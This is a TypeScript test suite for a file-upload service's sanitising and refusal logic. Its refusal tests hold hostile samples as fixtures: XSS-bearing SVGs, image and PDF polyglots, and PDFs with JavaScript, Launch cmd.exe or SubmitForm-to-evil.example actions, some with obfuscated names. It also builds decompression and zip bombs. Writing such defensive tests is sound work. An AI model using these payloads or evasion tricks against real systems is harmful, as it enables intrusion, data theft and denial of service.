import { request } from 'node:http'
import { deflateSync } from 'node:zlib'
import { PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { printReport } from '../../scripts/seed/report-pdf.ts'
import { bearer, type Headers, signInAs } from '../../test/console.ts'
import { type House, openHouse } from '../../test/house.ts'
import { join, type Person } from '../../test/people.ts'
import { addSupplier } from '../supply/service.ts'
import { readSheet } from './service.ts'

let house: House
let supplier: Headers
let member: Person

beforeAll(async () => {
  house = await openHouse()
  const row = { name: '寻乌橙子合作社', regionCode: '360734', story: '', licenceNumber: 'DEMO-7', licenceExpiresAt: null }
  supplier = await signInAs(house, 'supplier-staff', await addSupplier(house.ctx, { ...row, state: 'approved' }))
  member = await join(house, '李明')
})
afterAll(() => house[Symbol.asyncDispose]())

const send = (payload: Buffer, name = '检测报告', headers = supplier) =>
  house.app.inject({
    method: 'POST',
    url: `/api/console/files?name=${encodeURIComponent(name)}`,
    headers: { 'content-type': 'application/octet-stream', ...headers },
    payload,
  })
const refusalOf = async (payload: Buffer) => {
  const reply = await send(payload)
  return reply.statusCode < 400 ? `kept as ${reply.json().mime}` : reply.json().code
}
const keptBytes = async (payload: Buffer) => {
  const reply = await send(payload)
  expect([reply.statusCode, reply.payload]).toEqual([200, expect.stringContaining('/files/')])
  const file = await house.app.inject({ method: 'GET', url: reply.json().path })
  return { bytes: file.rawPayload, headers: file.headers }
}

/** A photograph as a phone makes it: on its side, with the place and the device in its notes. */
const photograph = () =>
  sharp({ create: { width: 640, height: 480, channels: 3, background: '#ee8431' } })
    .withMetadata({ orientation: 6 })
    .withExifMerge({ IFD0: { Make: 'Phone' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '24/1 57/1 0/1' } })
    .jpeg()
    .toBuffer()
const drawing = () =>
  sharp({ create: { width: 64, height: 64, channels: 4, background: '#2f6b4f' } })
    .png()
    .toBuffer()
const report = () => printReport({ title: '检验报告 JC-2026-08', lines: ['检验结论：合格'] })
const jar = Buffer.from(zipSync({ 'META-INF/MANIFEST.MF': new Uint8Array(40), 'Evil.class': new Uint8Array(400) }))

/** A PDF with an action in it, its objects packed in object streams as modern writers do. */
async function pdfWith(change: (document: PDFDocument) => void): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  change(document)
  return Buffer.from(await document.save({ useObjectStreams: true }))
}
const action = (kind: string, more: Record<string, unknown> = {}) =>
  pdfWith(({ context, catalog }) => {
    catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: kind, ...more } as never)))
  })

/** A PDF whose page holds this packed stream. */
function pdfOfStream(packed: Buffer, filter = '/FlateDecode'): Buffer {
  const head = Buffer.from(
    `%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n4 0 obj\n<</Filter ${filter}/Length ${packed.length}>>\nstream\n`,
  )
  return Buffer.concat([head, packed, Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 5>>\nstartxref\n0\n%%EOF\n')])
}

/** A PNG that says in its head how large it is and holds next to nothing. */
async function pngOfMeasure(width: number, height: number): Promise<Buffer> {
  const small = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()
  small.writeUInt32BE(width, 16)
  small.writeUInt32BE(height, 20)
  const { crc32 } = await import('node:zlib')
  small.writeUInt32BE(crc32(small.subarray(12, 29)), 29)
  return small
}

describe('what is kept', () => {
  test('a photograph is kept upright, drawn anew, without place, device or anything else from its notes', async () => {
    const original = await photograph()
    expect((await sharp(original).metadata()).exif).toBeDefined()
    const { bytes, headers } = await keptBytes(original)
    const kept = await sharp(bytes).metadata()
    expect([kept.format, kept.width, kept.height, kept.exif, kept.orientation]).toEqual(['jpeg', 480, 640, undefined, undefined])
    expect(bytes.includes('Phone')).toBe(false)
    expect(headers).toMatchObject({ 'content-type': 'image/jpeg', 'x-content-type-options': 'nosniff' })
    expect(headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/)
  })

  test('a huge picture is kept at a size that screens can use', async () => {
    const large = await sharp({ create: { width: 6000, height: 4000, channels: 3, background: '#fff' } })
      .png()
      .toBuffer()
    const { width, height } = await sharp((await keptBytes(large)).bytes).metadata()
    expect([width, height]).toEqual([2560, 1707])
  })

  test('what phones put behind a picture is left behind, and no reason to refuse it', async () => {
    const film = Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42', 'latin1'), Buffer.alloc(5000, 7)])
    const { bytes } = await keptBytes(Buffer.concat([await photograph(), film]))
    expect(bytes.includes('ftypmp42')).toBe(false)
  })

  test('drawings with transparency, WebP and plain PDFs are kept; the same file is kept once', async () => {
    const webp = await sharp(await drawing())
      .webp()
      .toBuffer()
    expect(await Promise.all([await drawing(), webp, report()].map(refusalOf))).toEqual([
      'kept as image/png',
      'kept as image/webp',
      'kept as application/pdf',
    ])
    expect((await keptBytes(report())).bytes.equals(report())).toBe(true)
    expect((await send(report())).json().id).toBe((await send(report())).json().id)
    expect(await refusalOf(await pdfWith(() => undefined))).toBe('kept as application/pdf')
  })

  test('members upload too; visitors are not listened to', async () => {
    const post = async (headers: Headers) => {
      const payload = await drawing()
      return house.app.inject({
        method: 'POST',
        url: '/api/files?name=a.png',
        headers: { 'content-type': 'image/png', ...headers },
        payload,
      })
    }
    expect((await post(bearer(member))).json().mime).toBe('image/png')
    expect((await post({})).json().code).toBe('account.sign_in_required')
    const { origin: _, ...elsewhere } = supplier
    expect((await send(await drawing(), 'a.png', elsewhere)).json().code).toBe('account.origin_refused')
  })
})

describe('what is refused, each with its reason', () => {
  test('files of another type, whatever their name says', async () => {
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)])
    const reasons = [exe, jar, Buffer.from('<html><script>alert(1)</script>'), Buffer.from('GIF89a........'), Buffer.from('just words')]
    for (const payload of reasons) expect((await send(payload, '产品图.jpg')).json().code).toBe('file.type_refused')
    expect(await refusalOf(Buffer.alloc(0))).toBe('file.empty')
  })

  test('an SVG, with or without a script', async () => {
    for (const text of [
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      '<?xml version="1.0"?>\n<svg onload="alert(1)"/>',
    ])
      expect(await refusalOf(Buffer.from(text))).toBe('file.svg_refused')
  })

  test('polyglots: pictures and PDFs that are something else as well', async () => {
    const [jpeg, png, pdf] = [await photograph(), await drawing(), report()]
    const webp = await sharp(png).webp().toBuffer()
    const script = Buffer.from('<script>alert(1)</script>')
    const note = (text: Buffer) =>
      Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, text.length + 2]), text, jpeg.subarray(2)])
    const asScript = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]), Buffer.alloc(0x2f28), jpeg.subarray(2)])
    const wrapped = jar.subarray(0)
    wrapped.writeUInt16LE(6, wrapped.length - 2)
    const many = {
      'a JPEG with an archive behind it': Buffer.concat([jpeg, jar]),
      'a PNG with an archive behind it': Buffer.concat([png, jar]),
      'a WebP with a page behind it': Buffer.concat([webp, Buffer.from('<!doctype html><p>hello')]),
      'a JPEG with a script behind it': Buffer.concat([jpeg, script]),
      'a JPEG with a script in its notes': note(script),
      'a JPEG with a PDF in its notes': note(Buffer.from('%PDF-1.7 1 0 obj')),
      'a JPEG that is a script by its first length': asScript,
      'a JPEG with a program behind it': Buffer.concat([jpeg, Buffer.from('MZ\x90\0')]),
      'a PDF with an archive behind it': Buffer.concat([pdf, jar]),
      'a PDF with a page behind it': Buffer.concat([pdf, script]),
      'a PDF that starts late': Buffer.concat([Buffer.from('GIF89a;\n'), pdf]),
      'a PDF that an archive’s note wraps': Buffer.concat([pdf.subarray(0, -6), wrapped, Buffer.from('%%EOF\n')]),
    }
    for (const [what, payload] of Object.entries(many)) expect([what, await refusalOf(payload)]).toEqual([what, 'file.polyglot'])
  })

  test('PDFs that run something, call out, or bring a file along, wherever they hide it', async () => {
    const late = Buffer.from(
      report().toString('latin1').replace('/Type /Catalog', '/OpenAction<</S/J#61vaScript/JS(app.alert(1))>> /Type /Catalog'),
      'latin1',
    )
    const many = {
      'a script in an object stream': await action('JavaScript', { JS: PDFString.of('app.alert(1)') }),
      'a program started from an object stream': await action('Launch', { F: PDFString.of('cmd.exe') }),
      'a form that is sent': await action('SubmitForm', { F: PDFString.of('https://evil.example') }),
      'an attachment': await pdfWith(
        (document) => void document.attach(Buffer.from('MZ'), 'bill.exe', { mimeType: 'application/x-msdownload' }),
      ),
      'a script whose name is written in codes': late,
      'an action on a page': await pdfWith((document) =>
        document.getPage(0).node.set(PDFName.of('AA'), PDFDict.withContext(document.context)),
      ),
    }
    for (const [what, payload] of Object.entries(many)) expect([what, await refusalOf(payload)]).toEqual([what, 'file.active_content'])
  })

  test('PDFs nobody can look into: encrypted, damaged, cut off', async () => {
    const text = report().toString('latin1')
    expect(await refusalOf(Buffer.from(text.replace('/Root', '/Encrypt 9 0 R /Root'), 'latin1'))).toBe('file.encrypted')
    expect(await refusalOf(Buffer.from(text.slice(0, 400), 'latin1'))).toBe('file.broken')
    expect(await refusalOf(Buffer.from('%PDF-1.7\nnothing\n%%EOF'))).toBe('file.broken')
  })

  test('pictures that are cut off', async () => {
    expect(await refusalOf((await photograph()).subarray(0, 900))).toBe('file.broken')
    expect(await refusalOf((await drawing()).subarray(0, 60))).toBe('file.broken')
  })

  test('bombs: a picture of too many pixels, and a PDF that unpacks to gigabytes, once or twice packed', async () => {
    const before = process.memoryUsage().rss
    expect(await refusalOf(await pngOfMeasure(50_000, 50_000))).toBe('file.too_many_pixels')
    const bomb = deflateSync(Buffer.alloc(80_000_000))
    expect(await refusalOf(pdfOfStream(bomb))).toBe('file.inflates')
    expect(await refusalOf(pdfOfStream(deflateSync(bomb), '[/FlateDecode /FlateDecode]'))).toBe('file.inflates')
    expect(process.memoryUsage().rss - before).toBeLessThan(400_000_000)
  })

  test('more in a day than anybody needs', async () => {
    const { rows } = await house.pool.query(
      `insert into files (id, sha256, mime, name, bytes, uploaded_by, uploaded_at)
       select 'fil_full' || n, sha256(n::text::bytea), 'application/pdf', 'x', convert_to(repeat('x', 10000000), 'utf8'), $1, $2 from generate_series(1, 20) n returning id`,
      [member.id, house.clock.now()],
    )
    expect(rows.length).toBe(20)
    const payload = await drawing()
    const reply = await house.app.inject({
      method: 'POST',
      url: '/api/files?name=a.png',
      headers: { 'content-type': 'image/png', ...bearer(member) },
      payload,
    })
    expect([reply.statusCode, reply.json().code]).toEqual([429, 'file.too_many'])
  })
})

describe('a file of 200 MB', () => {
  /** Sends until the other side stops listening; answers what it said and how much it took. */
  const pour = (headers: Headers, length?: number) =>
    new Promise<{ code: string; status: number; taken: number }>((resolve, reject) => {
      const total = 200_000_000
      const chunk = Buffer.alloc(65_536, 1)
      let taken = 0
      const line = request(`${address}/api/console/files?name=film.mp4`, {
        method: 'POST',
        headers: { ...headers, 'content-type': 'video/mp4', ...(length && { 'content-length': length }) },
      })
      line.on('response', (reply) => {
        let text = ''
        reply.on('data', (piece) => (text += piece))
        reply.on('end', () => {
          resolve({ status: reply.statusCode ?? 0, code: JSON.parse(text).code, taken })
          line.destroy()
        })
      })
      line.on('error', (error) => reject(error))
      const more = () => {
        while (taken < total && !line.destroyed) {
          taken += chunk.length
          if (!line.write(chunk)) return void line.once('drain', more)
        }
      }
      more()
    })
  let address = ''
  beforeAll(async () => {
    address = await house.app.listen({ port: 0, host: '127.0.0.1' })
    supplier = { ...supplier, origin: address }
  })

  test('is cut off early and never held, with its length told or not, and not read at all from somebody who may not send', async () => {
    const before = process.memoryUsage().rss
    const told = await pour(supplier, 200_000_000)
    expect(told).toMatchObject({ status: 413, code: 'file.too_large' })
    const untold = await pour(supplier)
    expect(untold).toMatchObject({ status: 413, code: 'file.too_large' })
    const stranger = await pour({})
    expect(stranger).toMatchObject({ status: 401, code: 'account.sign_in_required' })
    for (const { taken } of [told, untold, stranger]) expect(taken).toBeLessThan(40_000_000)
    expect(process.memoryUsage().rss - before).toBeLessThan(120_000_000)
  })
})

describe('a sheet', () => {
  const xlsx = (sheet: string, more: Record<string, Uint8Array> = {}) =>
    Buffer.from(
      zipSync({
        '[Content_Types].xml': Buffer.from('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        'xl/worksheets/sheet1.xml': Buffer.from(sheet),
        ...more,
      }),
    )
  const why = (bytes: Buffer) =>
    readSheet(bytes).then(
      (rows) => rows,
      (error) => error.code,
    )

  test('that unpacks to far more than it should is refused before it is unpacked, also when its list lies', async () => {
    const before = process.memoryUsage().rss
    const zeros = new Uint8Array(60_000_000)
    expect(await why(xlsx('<worksheet/>', { 'xl/media/image1.xml': zeros }))).toBe('sheet.inflates')
    expect(await why(xlsx('<worksheet/>', { 'xl/sharedStrings.xml': zeros.subarray(0, 20_000_000) }))).toBe('sheet.inflates')
    const lying = xlsx('<worksheet/>', { 'xl/sharedStrings.xml': zeros })
    lying.writeUInt32LE(1000, lying.lastIndexOf('PK\x01\x02', undefined, 'latin1') + 24)
    expect(await why(lying)).toMatch(/^sheet\./)
    expect(process.memoryUsage().rss - before).toBeLessThan(300_000_000)
  })

  test('that is no sheet is refused', async () => {
    expect(await why(await drawing())).toBe('sheet.type_refused')
    expect(await why(jar)).toBe('sheet.type_refused')
    expect(await why(Buffer.from('PK\x03\x04 torn'))).toBe('sheet.broken')
    expect(await why(Buffer.alloc(0))).toBe('file.empty')
  })

  test('is read as text whether spreadsheets wrote it in UTF-8 or as in China for decades', async () => {
    const text = '包裹号,快递,单号\r\npcl_1,顺丰,"=""0012345678901"""\r\n'
    const expected = [
      ['包裹号', '快递', '单号'],
      ['pcl_1', '顺丰', '0012345678901'],
    ]
    expect(await why(Buffer.from(`\ufeff${text}`))).toEqual(expected)
    // 包裹号,快递,单号 / pcl_1,顺丰,… in GB 18030.
    const gb = Buffer.concat([
      Buffer.from('b0fcb9fcbac52cbfecb5dd2cb5a5bac50d0a', 'hex'),
      Buffer.from('pcl_1,'),
      Buffer.from('cbb3b7e1', 'hex'),
      Buffer.from(',0012345678901\r\n'),
    ])
    expect(await why(gb)).toEqual(expected)
    expect(await why(Buffer.from('a,b\n'.repeat(2_002)))).toBe('sheet.too_long')
  })
})
